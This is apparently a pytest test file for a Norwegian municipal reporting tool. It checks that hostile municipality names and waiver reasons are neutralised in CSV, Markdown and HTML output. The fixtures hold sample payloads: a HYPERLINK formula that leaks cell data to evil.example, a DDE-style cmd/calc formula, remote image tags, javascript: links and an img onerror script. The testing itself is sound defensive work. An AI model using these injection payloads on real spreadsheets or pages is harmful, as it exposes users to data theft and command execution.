"""Hostile text in the inputs goes nowhere in the outputs (issue 13).

Kommune names and waiver reasons are input text. In findings.csv and `criteria ... --format csv` a cell
starting with = + - @ tab or CR would run as a formula in Excel (OWASP CSV injection); in report.md a
Markdown image would make report.html load a remote image, and a line break with # would add a heading.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from small_data import write_small_data

from bosetting.obligations.cli import main
from bosetting.obligations.safe_text import FORMULA_TRIGGERS, markdown_text, neutralise_formula, spreadsheet_csv

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1;"Oslo")'
MARKDOWN_NAME = ('![x](https://evil.example/x.png) <img src="https://evil.example/y.png"> '
                 '[klikk](javascript:alert(1)) <https://evil.example/z> **fet**')
WAIVER_REASON = "@SUM(1+1)*cmd|' /C calc'!A0\n# Falsk overskrift\n\n- falsk punkt"


def _rename(data: Path, names: dict[str, str]) -> None:
    path = data / "kommuner.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row in rows[1:]:
        row[1] = names.get(row[0], row[1])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # The waiver is for 6.1, not met for Bufdir in this data: a waiver shows only where it covers a deviation.
    data = write_small_data(tmp_path_factory.mktemp("hostile") / "data")
    _rename(data, {"0301": FORMULA_NAME, "1101": MARKDOWN_NAME})
    indented = "\n".join("      " + line for line in WAIVER_REASON.splitlines())
    (data / "2026" / "registre" / "unntak.yaml").write_text(
        'synthetic: true\nunntak:\n  - forpliktelse: "6.1"\n    subject: "Bufdir"\n    avtalt_av: "=BFD og KS"\n'
        '    referat: "Møte (syntetisk)"\n'
        f'    begrunnelse: |-\n{indented}\n    gyldig_fra: "2026-01-01"\n    gyldig_til: "2026-12-31"\n',
        encoding="utf-8")
    assert CliRunner().invoke(main, ["data", "check", str(data)]).exit_code == 0
    return data


@pytest.fixture(scope="module")
def report(hostile_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile-review") / "review"
    result = CliRunner().invoke(main, ["review", "--year", "2026", "--data", str(hostile_data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        if cell.lstrip(" ").startswith(FORMULA_TRIGGERS):
            assert re.fullmatch(r"[+-]\d+([.,]\d+)?", cell.strip()), f"a formula would run: {cell[:60]!r}"


def test_findings_csv_runs_no_formula(report: Path) -> None:
    cells = _cells((report / "findings.csv").read_text(encoding="utf-8"))
    _assert_no_formula(cells)
    assert "'" + FORMULA_NAME in cells, "the name is kept, marked as text"
    assert any(cell.startswith("'" + FORMULA_NAME + " ") for cell in cells), "an explanation starting with it"
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells), "the waiver's reason"


@pytest.mark.parametrize("command", [["evaluate", "--year", "2026"], ["allocate", "--year", "2026"],
                                     ["compare", "--from", "2026", "--to", "2027"]])
def test_criteria_csv_runs_no_formula(hostile_data: Path, command: list[str]) -> None:
    result = CliRunner().invoke(main, ["criteria", *command, "--data", str(hostile_data), "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(result.output)
    _assert_no_formula(cells)
    assert "'" + FORMULA_NAME in cells


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def test_report_html_loads_nothing_and_links_only_within_itself(report: Path) -> None:
    html = (report / "report.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(html)
    linked = [(tag, name, value) for tag, attrs in parser.tags for name, value in attrs
              if name in ("src", "href", "srcset", "xlink:href", "action", "formaction", "poster", "background")]
    ids = {value for _, attrs in parser.tags for name, value in attrs if name == "id"}
    outside = [link for link in linked if link[:2] != ("a", "href") or not (link[2] or "").startswith("#")]
    assert outside == [], "the report loads nothing and links nothing outside itself"
    assert linked, "the report links its own sections"
    assert all((value or "")[1:] in ids for _, _, value in linked), "every link leads to a place in the report"
    assert not [tag for tag, _ in parser.tags if tag in ("img", "iframe", "script", "link", "object")]
    assert "<strong>fet</strong>" not in html
    assert "![x](https://evil.example/x.png)" in html, "the name is shown as the text it is"


def test_a_line_break_in_input_text_adds_no_heading_or_list(report: Path) -> None:
    markdown = (report / "report.md").read_text(encoding="utf-8")
    html = (report / "report.html").read_text(encoding="utf-8")
    assert "Falsk overskrift" in markdown
    assert not [line for line in markdown.splitlines() if "Falsk overskrift" in line and line.startswith("#")]
    assert not re.search(r"<h\d[^>]*>[^<]*Falsk overskrift", html)
    assert not re.search(r"<li>\s*falsk punkt", html)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+47 22 00 00 00", "'+47 22 00 00 00"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), (" =1", "' =1"), ("-A1", "'-A1"),
    ("-24", "-24"), ("+3", "+3"), ("-12,5", "-12,5"), ("-0.75", "-0.75"), ("Oslo", "Oslo"), ("", ""),
    (-24, -24), (12.5, 12.5), (None, None),
])
def test_neutralise_formula(value: object, expected: object) -> None:
    assert neutralise_formula(value) == expected


def test_spreadsheet_csv_neutralises_every_cell_and_keeps_numbers() -> None:
    text = spreadsheet_csv(["=a", "b"], [["=2+2", -24], ["-24", "x;y"]])
    assert text == "\ufeff'=a;b\r\n'=2+2;-24\r\n-24;\"x;y\"\r\n"


@pytest.mark.parametrize("hostile", ["![x](https://e.example/x.png)", "<img src=x onerror=alert(1)>",
                                     "[a](javascript:alert(1))", "<https://e.example>", "line\n# heading",
                                     "a | b", "`code`", "*em* _em_ ~~s~~", "[ref]: https://e.example",
                                     "x\r\n\r\n- item", "\\[escaped]"])
def test_markdown_text_renders_as_the_literal_text(hostile: str) -> None:
    rendered = MarkdownIt("commonmark", {"html": False}).enable("table").render(markdown_text(hostile))
    assert rendered.count("<p>") == 1 and rendered.startswith("<p>")
    assert not re.search(r"<(a|img|h\d|li|code|em|strong|s|table)\b", rendered), rendered
    expected = MarkdownIt("commonmark").render("x").replace("x", "")  # the paragraph around the text
    assert rendered != expected


def test_input_names_keep_their_letters(tmp_path: Path) -> None:
    assert markdown_text("Porsáŋgu Porsanger Porsanki") == "Porsáŋgu Porsanger Porsanki"
    assert markdown_text("data/2026/kommune_aar.csv:row 12") == "data/2026/kommune_aar.csv:row 12"
    shutil.rmtree(tmp_path)
